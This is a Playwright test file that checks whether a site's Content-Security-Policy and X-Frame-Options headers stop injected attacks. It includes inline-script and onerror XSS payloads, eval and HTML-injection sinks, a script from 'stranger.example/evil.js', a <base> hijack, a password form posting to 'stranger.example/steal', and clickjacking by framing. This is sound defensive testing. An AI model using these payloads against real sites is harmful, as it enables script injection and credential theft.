// Each attack runs twice. Without the policy, the attack succeeds. With Hosting's headers, the browser stops it.
import type { Page } from 'playwright/test';
import { expect, test } from '../support/fixtures';

const STRANGER = 'http://stranger.example';
const LOADED = { contentType: 'text/html', body: '<title>Stranger</title>' };
const MARK = "document.documentElement.dataset.hacked = 'yes';";

async function poison(page: Page, path: string, markup: string, without: string[]): Promise<void> {
  await page.route(path, async (route) => {
    const response = await route.fetch();
    const headers = Object.fromEntries(
      Object.entries(response.headers()).filter(([name]) => !without.includes(name)),
    );
    const body = (await response.text()).replace('<head>', () => `<head>${markup}`);
    await route.fulfill({ response, headers, body });
  });
}

/** Acts as a third-party server, and returns the requests it gets. */
async function stranger(page: Page, body = ''): Promise<string[]> {
  const asked: string[] = [];
  await page.route(`${STRANGER}/**`, async (route) => {
    asked.push(`${route.request().method()} ${route.request().url()}`);
    await route.fulfill({
      ...LOADED,
      body,
      contentType: body.startsWith('<') ? 'text/html' : 'text/javascript',
    });
  });
  return asked;
}

const hacked = (page: Page) =>
  page.evaluate(() => document.documentElement.dataset.hacked ?? 'no').catch(() => 'away');

interface Attack {
  name: string;
  markup: string;
  stopped: string;
  act?: (page: Page) => Promise<void>;
  /** Resolves to "yes" once the attack has succeeded. */
  outcome: (page: Page, asked: string[]) => Promise<string>;
}

const attacks: Attack[] = [
  {
    name: 'an inline script',
    markup: `<script>${MARK}</script>`,
    stopped: 'script-src-elem inline',
    outcome: hacked,
  },
  {
    name: 'an inline event handler',
    markup: `<link rel="stylesheet" href="/nothing.css" onerror="${MARK}">`,
    stopped: 'script-src-attr inline',
    outcome: hacked,
  },
  {
    name: 'eval in our own script',
    markup: '<script src="/assets/weak.js"></script>',
    stopped: 'require-trusted-types-for trusted-types-sink',
    outcome: hacked,
  },
  {
    name: 'markup written by our own script',
    markup: '<script src="/assets/weaker.js"></script>',
    stopped: 'require-trusted-types-for trusted-types-sink',
    outcome: hacked,
  },
  {
    name: 'a third-party script',
    markup: `<script src="${STRANGER}/evil.js"></script>`,
    stopped: `script-src-elem ${STRANGER}/evil.js`,
    outcome: hacked,
  },
  {
    name: 'a <base> that sends relative URLs to another site',
    markup: `<base href="${STRANGER}/">`,
    stopped: `base-uri ${STRANGER}/`,
    outcome: async (page) =>
      (await page.evaluate(() => document.baseURI)).startsWith(STRANGER) ? 'yes' : 'no',
  },
  {
    name: 'a form that sends a password to another site',
    markup: '',
    stopped: `form-action ${STRANGER}/steal`,
    act: async (page) => {
      await page.evaluate((address) => {
        const form = document.createElement('form');
        form.method = 'post';
        form.action = address;
        document.body.append(form);
        form.submit();
      }, `${STRANGER}/steal`);
    },
    outcome: async (_, asked) => (asked.some((line) => line.startsWith('POST')) ? 'yes' : 'no'),
  },
];

async function weakScripts(page: Page): Promise<void> {
  const script = (body: string) => ({ contentType: 'text/javascript', body });
  await page.route('/assets/weak.js', (route) =>
    route.fulfill(script(`eval(${JSON.stringify(MARK)})`)),
  );
  const image = `<img src="/nothing.png" onerror="${MARK}">`;
  await page.route('/assets/weaker.js', (route) =>
    route.fulfill(
      script(`document.documentElement.insertAdjacentHTML('beforeend', ${JSON.stringify(image)})`),
    ),
  );
}

for (const { name, markup, stopped, act, outcome } of attacks)
  test(`the policy stops ${name}; without the policy, the attack succeeds`, {
    tag: '@F62',
  }, async ({ page, watch }) => {
    watch.allow(/./);
    const visit = async (tab: Page, without: string[]): Promise<string[]> => {
      await weakScripts(tab);
      const asked = await stranger(tab, MARK);
      await poison(tab, '/about', markup, without);
      await tab.goto('/about');
      await act?.(tab);
      return asked;
    };
    const tab = await page.context().newPage();
    const askedWithout = await visit(tab, ['content-security-policy']);
    await expect.poll(() => outcome(tab, askedWithout)).toBe('yes');
    await tab.close();
    expect(watch.violations).toEqual([]);

    const asked = await visit(page, []);
    await expect.poll(() => watch.violations).toContain(stopped);
    // By the load event, everything on the page has run.
    await page.waitForLoadState('load');
    expect(await outcome(page, asked)).toBe('no');
    expect(asked).toEqual([]);
  });

test('either of two headers keeps other sites from framing the login; without both, framing works', {
  tag: '@F61',
}, async ({ page, baseURL, watch }) => {
  watch.allow(/./);
  const address = new URL('/login', baseURL).href;
  await stranger(page, `<title>Stranger</title><iframe src="${address}"></iframe>`);
  const heading = page.frameLocator('iframe').getByRole('heading', { name: 'Login' });
  for (const without of ['x-frame-options', 'content-security-policy']) {
    await poison(page, address, '', [without]);
    const refused = page.waitForEvent('requestfailed');
    await page.goto(`${STRANGER}/`);
    const request = await refused;
    expect(request.url()).toBe(address);
    expect(request.failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
    await expect(heading).toHaveCount(0);
  }
  await poison(page, address, '', ['x-frame-options', 'content-security-policy']);
  await page.goto(`${STRANGER}/`);
  await expect(heading).toBeVisible();
});
